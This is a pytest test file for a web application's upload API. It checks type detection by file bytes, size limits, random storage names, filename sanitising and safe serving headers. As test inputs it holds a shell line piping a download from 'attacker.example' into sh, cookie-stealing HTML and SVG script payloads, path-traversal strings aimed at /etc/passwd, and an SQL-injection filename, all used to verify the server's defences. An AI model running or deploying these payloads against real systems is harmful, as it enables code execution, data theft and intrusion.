"""Uploads through HTTP: typed by their bytes, size-limited, stored under random names, served back safely."""

from __future__ import annotations

import hashlib
import io
import re
import struct
import zlib
from pathlib import Path

import pytest
from PIL import Image
from sqlalchemy import select

from fantasize.errors import Conflict
from fantasize.extensions import db
from fantasize.models import Upload, User
from tests.factories import Factory

API = "/api/v1"
UPLOADS = f"{API}/uploads"
UPLOAD_KEYS = {"id", "storedName", "url", "mimeType", "size", "sha256"}
STORED_NAME = re.compile(r"^[0-9a-f]{32}\.(jpg|png|webp|gif|pdf)$")
MIB = 1024 * 1024


def png_bytes(width: int = 1, height: int = 1) -> bytes:
    """A real PNG: an RGB image of the given size, all red."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


# A 1x1 transparent GIF89a.
GIF = bytes.fromhex(
    "47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b"
)
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)


def jpeg_bytes() -> bytes:
    """A real JPEG (images are decoded before they are kept): 1x1, black."""
    out = io.BytesIO()
    Image.new("L", (1, 1)).save(out, "JPEG", optimize=True)
    return out.getvalue()


JPEG = jpeg_bytes()
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>'


@pytest.fixture
def upload_folder(tmp_path: Path) -> Path:
    return tmp_path / "not-created-yet" / "uploads"


@pytest.fixture
def app(make_app, upload_folder):
    """This module's app keeps its files in a folder of its own, which does not exist until the first upload."""
    application = make_app(UPLOAD_FOLDER=str(upload_folder))
    with application.app_context():
        yield application


def send(client, content: bytes, name: str = "photo.png", content_type: str = "image/png", headers=None,
         field: str = "file"):
    return client.post(UPLOADS, headers=headers, content_type="multipart/form-data",
                       data={field: (io.BytesIO(content), name, content_type)})


def files_in(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir()) if folder.exists() else []


def fetch(client, path: str, **kwargs):
    response = client.get(path, **kwargs)
    response.get_data()  # read the body, then close: a file response holds its file open until closed
    response.close()
    return response


# Accepted files


def test_a_png_is_stored_under_a_random_name_and_described(client, factory, upload_folder):
    user = factory.user()
    content = png_bytes(2, 3)
    assert not upload_folder.exists()
    response = send(client, content, headers=factory.headers(user))
    assert response.status_code == 201
    body = response.json
    assert set(body) == UPLOAD_KEYS
    assert STORED_NAME.match(body["storedName"]) and body["storedName"].endswith(".png")
    assert body["url"] == f"/api/v1/uploads/{body['storedName']}"
    assert body["mimeType"] == "image/png"
    assert body["size"] == len(content)
    assert body["sha256"] == hashlib.sha256(content).hexdigest()
    assert files_in(upload_folder) == [body["storedName"]]  # no temporary file left behind
    assert (upload_folder / body["storedName"]).read_bytes() == content
    row = db.session.get(Upload, body["id"])
    assert (row.owner_id, row.original_name, row.stored_name) == (user.id, "photo.png", body["storedName"])


@pytest.mark.parametrize("content, mime, extension", [
    (GIF, "image/gif", "gif"),
    (PDF, "application/pdf", "pdf"),
    (JPEG, "image/jpeg", "jpg"),
    (WEBP, "image/webp", "webp"),
])
def test_each_allowed_type_is_recognised_by_its_bytes_whatever_it_claims(client, factory, content, mime, extension):
    response = send(client, content, name="innocent.txt", content_type="text/plain",
                    headers=factory.headers(factory.user()))
    assert response.status_code == 201, response.json
    assert response.json["mimeType"] == mime
    assert response.json["storedName"].endswith(f".{extension}")


def test_two_uploads_of_the_same_file_get_different_names(client, factory):
    headers = factory.headers(factory.user())
    first, second = (send(client, png_bytes(), headers=headers).json for _ in range(2))
    assert first["storedName"] != second["storedName"]
    assert first["sha256"] == second["sha256"]


def test_v2_wraps_the_upload_in_the_envelope(client, factory):
    response = client.post("/api/v2/uploads", headers=factory.headers(factory.user()),
                           content_type="multipart/form-data", data={"file": (io.BytesIO(GIF), "a.gif")})
    assert response.status_code == 201
    assert response.json["success"] is True and set(response.json["data"]) == UPLOAD_KEYS


# Refused files


@pytest.mark.parametrize("content, name, content_type", [
    (HTML, "x.png", "image/png"),
    (HTML, "index.html", "text/html"),
    (SCRIPT, "run.sh", "application/x-sh"),
    (SCRIPT, "holiday.jpg", "image/jpeg"),
    (SVG, "logo.svg", "image/svg+xml"),
    (b"just some text", "notes.pdf", "application/pdf"),
    (b"PK\x03\x04" + b"\x00" * 60, "archive.gif", "image/gif"),
])
def test_bytes_of_another_type_are_415_whatever_the_name_or_content_type(client, factory, upload_folder, content,
                                                                          name, content_type):
    response = send(client, content, name=name, content_type=content_type, headers=factory.headers(factory.user()))
    assert response.status_code == 415
    assert response.json["error"]["code"] == "UNSUPPORTED_MEDIA_TYPE"
    assert files_in(upload_folder) == []
    assert db.session.scalar(select(Upload)) is None


def test_a_file_over_max_upload_mb_is_413_and_one_at_the_limit_is_accepted(make_app, tmp_path):
    folder = tmp_path / "small"
    app = make_app(MAX_UPLOAD_MB=1, UPLOAD_FOLDER=str(folder))
    with app.app_context():
        factory = Factory(app)
        client = app.test_client()
        headers = factory.headers(factory.user())
        image = png_bytes()
        too_big = send(client, image + b"\x00" * (MIB + 1 - len(image)), headers=headers)
        assert too_big.status_code == 413
        assert too_big.json["error"]["code"] == "PAYLOAD_TOO_LARGE"
        assert files_in(folder) == []
        at_limit = send(client, image + b"\x00" * (MIB - len(image)), headers=headers)
        assert at_limit.status_code == 201
        assert at_limit.json["size"] == MIB
        assert files_in(folder) == [at_limit.json["storedName"]]


def test_a_body_over_max_content_length_is_413(make_app, tmp_path):
    app = make_app(MAX_CONTENT_LENGTH=4096, UPLOAD_FOLDER=str(tmp_path / "bounded"))
    with app.app_context():
        factory = Factory(app)
        response = send(app.test_client(), png_bytes() + b"\x00" * 8192, headers=factory.headers(factory.user()))
        assert response.status_code == 413
        assert response.json["error"]["code"] == "PAYLOAD_TOO_LARGE"


def test_an_empty_file_is_422(client, factory, upload_folder):
    response = send(client, b"", headers=factory.headers(factory.user()))
    assert response.status_code == 422
    assert response.json["error"]["details"] == {"file": ["The file is empty."]}
    assert files_in(upload_folder) == []


def test_a_missing_file_field_is_422(client, factory):
    headers = factory.headers(factory.user())
    other_field = send(client, png_bytes(), field="image", headers=headers)
    assert other_field.status_code == 422
    assert other_field.json["error"]["details"] == {"file": ["Missing data for required field."]}
    text_value = client.post(UPLOADS, headers=headers, content_type="multipart/form-data", data={"file": "hello"})
    assert text_value.status_code == 422


def test_two_files_in_the_field_are_422(client, factory):
    response = client.post(UPLOADS, headers=factory.headers(factory.user()), content_type="multipart/form-data",
                           data={"file": [(io.BytesIO(GIF), "a.gif"), (io.BytesIO(PDF), "b.pdf")]})
    assert response.status_code == 422
    assert response.json["error"]["details"] == {"file": ["Send one file."]}


@pytest.mark.parametrize("kwargs", [
    {"json": {"file": "iVBORw0KGgo="}},
    {"data": png_bytes(), "content_type": "image/png"},
    {},
])
def test_a_body_that_is_not_multipart_is_415(client, factory, kwargs):
    response = client.post(UPLOADS, headers=factory.headers(factory.user()), **kwargs)
    assert response.status_code == 415
    assert response.json["error"]["code"] == "UNSUPPORTED_MEDIA_TYPE"


def test_uploading_needs_a_token(client, upload_folder):
    response = send(client, png_bytes())
    assert response.status_code == 401
    assert files_in(upload_folder) == []


def test_the_file_is_removed_when_its_row_cannot_be_committed(app, upload_folder):
    # Not reachable through HTTP without faking the database: an owner id with no user row fails the foreign key
    # at commit, which is exactly the failure whose file must not be left behind.
    # Imported here: fantasize.services.common imports the API package, so a service module imported on its own,
    # before any app exists, meets a circular import.
    from fantasize.services.uploads import store_upload

    ghost = User(id=10**9)
    with pytest.raises(Conflict):
        store_upload(ghost, io.BytesIO(png_bytes()), "photo.png")
    assert files_in(upload_folder) == []
    assert db.session.scalar(select(Upload)) is None


# The original name


@pytest.mark.parametrize("name, recorded", [
    ("../../etc/passwd.png", "passwd.png"),
    ("C:/Users/ada/Pictures/photo.png", "photo.png"),
    # A multipart header escapes a backslash as two; this one arrives as C:\Users\ada\photo.png.
    ("C:\\\\Users\\\\ada\\\\photo.png", "photo.png"),
    ("/var/www/uploads/../x.png", "x.png"),
    ("\u202egnp.exe", "gnp.exe"),
    ("Straße 名前 😀.png", "Straße 名前 😀.png"),
    ("O'Brien; DROP TABLE uploads;--.png", "O'Brien; DROP TABLE uploads;--.png"),
    ("..", None),
    ("a" * 300 + ".png", "a" * 251 + ".png"),
])
def test_the_original_name_is_recorded_as_a_safe_base_name(client, factory, name, recorded):
    response = send(client, png_bytes(), name=name, headers=factory.headers(factory.user()))
    assert response.status_code == 201
    assert db.session.get(Upload, response.json["id"]).original_name == recorded
    assert response.json["storedName"] != name


# Serving


def test_get_serves_the_same_bytes_with_safe_headers(client, factory):
    content = png_bytes(4, 4)
    created = send(client, content, name="photo.png", headers=factory.headers(factory.user())).json
    response = fetch(client, created["url"])
    assert response.status_code == 200
    assert response.data == content
    assert response.mimetype == "image/png"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Disposition"].startswith("inline")
    assert "photo.png" in response.headers["Content-Disposition"]
    cache = response.cache_control
    assert cache.public and cache.max_age >= 365 * 24 * 3600 and cache.immutable
    assert response.headers["ETag"] == f'"{created["sha256"]}"'
    unchanged = fetch(client, created["url"], headers={"If-None-Match": response.headers["ETag"]})
    assert unchanged.status_code == 304


def test_a_pdf_is_served_as_an_attachment_named_for_what_it_is(client, factory):
    created = send(client, PDF, name="report.exe", content_type="application/x-msdownload",
                   headers=factory.headers(factory.user())).json
    response = fetch(client, created["url"])
    assert response.status_code == 200 and response.data == PDF
    assert response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"] == "attachment; filename=report.pdf"
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_files_are_public_under_every_version(client, factory):
    created = send(client, GIF, name="a.gif", headers=factory.headers(factory.user())).json
    for prefix in ("/api/v1", "/api/v2", "/api"):
        response = fetch(client, f"{prefix}/uploads/{created['storedName']}")
        assert response.status_code == 200 and response.data == GIF, prefix


TRAVERSALS = (
    "..%2F..%2Fetc%2Fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252F..%252Fetc%252Fpasswd",
    "%2Fetc%2Fpasswd",
    "..%2Fsecret.txt",
    "..\\..\\etc\\passwd",
    "....//....//etc/passwd",
    "..",
    "%00",
    "notes.txt",
    "0123456789abcdef0123456789abcdef.txt",
    "0123456789abcdef0123456789abcdef.png",
)


def test_traversal_and_unknown_names_are_404(client, factory, upload_folder):
    send(client, png_bytes(), headers=factory.headers(factory.user()))
    (upload_folder / "notes.txt").write_text("not an upload")
    (upload_folder / "0123456789abcdef0123456789abcdef.png").write_bytes(png_bytes())  # on disk, never recorded
    (upload_folder.parent / "secret.txt").write_text("outside the upload folder")
    for name in TRAVERSALS:
        response = fetch(client, f"{UPLOADS}/{name}")
        assert response.status_code == 404, name
        assert response.is_json and response.json["error"]["code"] == "NOT_FOUND", name


def test_near_misses_of_a_real_name_are_404(client, factory):
    name = send(client, png_bytes(), headers=factory.headers(factory.user())).json["storedName"]
    for variant in (name.upper(), name + "%00", name + "/", "../uploads/" + name, "%2E%2E%2Fuploads%2F" + name,
                    name.replace(".png", ".gif"), name[1:], name + ".png"):
        assert fetch(client, f"{UPLOADS}/{variant}").status_code == 404, variant
    assert fetch(client, f"{UPLOADS}/{name}").status_code == 200


def test_a_recorded_upload_whose_file_is_gone_is_404(client, factory, upload_folder):
    created = send(client, png_bytes(), headers=factory.headers(factory.user())).json
    (upload_folder / created["storedName"]).unlink()
    assert fetch(client, created["url"]).status_code == 404


def test_the_openapi_document_describes_the_file_routes(client):
    document = client.get("/api/openapi.json").json
    post = document["paths"]["/api/v1/uploads"]["post"]
    form = post["requestBody"]["content"]["multipart/form-data"]["schema"]
    assert form["required"] == ["file"] and form["properties"]["file"]["format"] == "binary"
    assert {"201", "401", "413", "415", "422"} <= set(post["responses"])
    get = document["paths"]["/api/v1/uploads/{stored_name}"]["get"]
    assert set(get["responses"]["200"]["content"]) == {"image/jpeg", "image/png", "image/webp", "image/gif",
                                                       "application/pdf"}
    assert "404" in get["responses"]
